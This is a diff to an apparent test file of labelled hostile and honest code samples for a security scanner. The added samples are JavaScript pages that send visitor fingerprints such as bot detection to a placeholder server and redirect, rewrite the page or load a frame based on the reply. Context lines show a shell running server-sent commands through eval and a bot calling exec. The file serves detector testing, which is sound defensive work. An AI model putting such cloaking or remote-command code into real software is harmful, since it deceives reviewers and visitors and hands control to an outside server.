@@ -37,6 +37,17 @@ def _stepped(text: str, line: int, verdict: str = "block") -> Sample:
     return Sample(_step(text), verdict, (".github/actions/a/action.yml", line))
 
 
+def _shown(end: str) -> Sample:
+    """A page that asks a server who its visitor is."""
+    return js(
+        "const facts = { robot: navigator.webdriver, langs: navigator.languages };\n"
+        f"fetch('{_TO}', {{ method: 'POST', body: JSON.stringify(facts) }}).then((r) => r.json())\n"
+        f"  .then((d) => {{ {end}; }});\n",
+        "review",
+        3,
+    )
+
+
 HOSTILE: dict[str, dict[str, Sample]] = {
     "remote_control": {
         "again and again, a server says what a shell does": _stepped(f'{_ASKED}  O=$(eval "$R")\ndone', 8),
@@ -141,6 +152,11 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             "review",
             6,
         ),
+    },
+    "targeted_code": {
+        "a page that leads on whom a server picks": _shown("location.replace(d.target)"),
+        "a page that is written for whom a server picks": _shown("document.write(d.text)"),
+        "a frame for whom a server picks": _shown("document.querySelector('iframe').src = d.target"),
     },
     "remote_code": {
         "a bot of one's own": py(_BOT + "        exec(message.text)\n", line=4),
@@ -247,6 +263,14 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
         "an address of the chain itself": js(
             "export const run = (sdk, tx) => {\n  if (tx.a) tx.to = '0x0000000000000000000000000000000000008006';\n"
             "  return sdk.signTransaction(tx); };\n"
+        ).files,
+    },
+    "targeted_code": {
+        "a page that speaks the language of its visitor": _shown("document.title = d.title").files,
+        "a page that leads on who pays": js(
+            "const facts = { zone: Intl.DateTimeFormat().resolvedOptions().timeZone, lang: navigator.language };\n"
+            f"fetch('{_TO}', {{ method: 'POST', body: JSON.stringify(facts) }}).then((r) => r.json())\n"
+            "  .then((d) => { location.href = d.url; });\n"
         ).files,
     },
     "remote_code": {
